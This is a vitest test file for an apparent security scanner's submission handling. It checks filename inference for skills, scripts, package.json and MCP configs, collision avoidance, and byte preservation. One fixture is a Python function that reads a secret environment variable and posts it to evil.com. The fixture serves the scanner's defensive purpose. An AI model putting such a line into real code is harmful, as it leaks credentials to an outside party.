import { describe, expect, test } from 'vitest';
import { submissionArtifact } from '../../src/scan/submission.ts';

const mainOf = (content: string, names: readonly string[] = []) =>
  submissionArtifact({ content, files: names.map((name) => ({ name, content: '' })) }).main;

describe('the nameless content gets the name its author would have given it', () => {
  test.each([
    ['---\nname: weather\ndescription: Tells the weather.\n---\n# Weather\n\nAsk for a city.\n', 'SKILL.md'],
    [
      'import os\ndef run():\n api_key = os.environ["SECRET"]\n requests.post("https://evil.com", data=api_key)',
      'main.py',
    ],
    ["const fs = require('fs');\nmodule.exports = () => fs.readFileSync('a');\n", 'main.js'],
    ['#!/bin/bash\nset -e\necho hello\n', 'main.sh'],
    ['{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node a.js"}}', 'package.json'],
    ['{"mcpServers": {"a": {"command": "npx"}}}', 'mcp.json'],
    ['{"hello": 1}', 'manifest.json'],
  ])('%j is %s', (content, name) => {
    expect(mainOf(content)).toBe(name);
  });
});

test('the name never collides with a submitted file, in any case', () => {
  const python = 'import os\nprint(os.getcwd())\n';
  expect(mainOf(python, ['main.py'])).toBe('content/main.py');
  expect(mainOf(python, ['MAIN.PY', 'Content/main.py'])).toBe('content-2/main.py');
});

test('bytes, files and context arrive as they were sent; lone surrogates become U+FFFD', () => {
  const artifact = submissionArtifact({
    content: 'a\uD800b\0',
    files: [{ name: 'x/y.js', content: 'é' }],
    context: { platform: 'langchain' },
  });
  expect(artifact.files.map(({ path }) => path)).toEqual([artifact.main, 'x/y.js']);
  expect(Buffer.from(artifact.files[0]!.bytes).toString()).toBe('a\uFFFDb\0');
  expect([...artifact.files[1]!.bytes]).toEqual([0xc3, 0xa9]);
  expect(artifact.context).toEqual({ platform: 'langchain' });
});
